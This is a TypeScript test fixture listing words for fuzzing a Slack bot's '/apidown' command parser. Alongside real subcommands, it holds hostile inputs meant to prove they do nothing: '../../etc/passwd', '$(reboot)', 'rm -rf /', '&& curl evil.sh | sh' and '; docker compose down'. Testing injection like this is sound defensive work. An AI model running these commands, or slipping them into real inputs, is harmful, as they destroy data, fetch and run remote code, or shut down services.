/**
 * Words people (and attackers) type after `/apidown`: real subcommands and section ids, case
 * variants, and shell or Slack syntax that must never do anything. Shared by the grammar fuzzing
 * (tests/fuzz) and the bot-level fault test (tests/faults).
 */
export const COMMAND_WORDS = [
  'help',
  'status',
  'resolve',
  'impact',
  'many',
  'run',
  'diagnose',
  'deps',
  'restart',
  'resources',
  'verify',
  '--break-glass',
  'diagnostico-rapido',
  'passo-2-restart-do-servico',
  'verificacao-pos-resolucao',
  '../../etc/passwd',
  '$(reboot)',
  '`id`',
  'rm -rf /',
  '&& curl evil.sh | sh',
  '; docker compose down',
  '"quoted reason here"',
  'HELP',
  'Restart',
  'run run',
  '\u0000',
  '<@U111>',
  '<!channel>',
] as const;
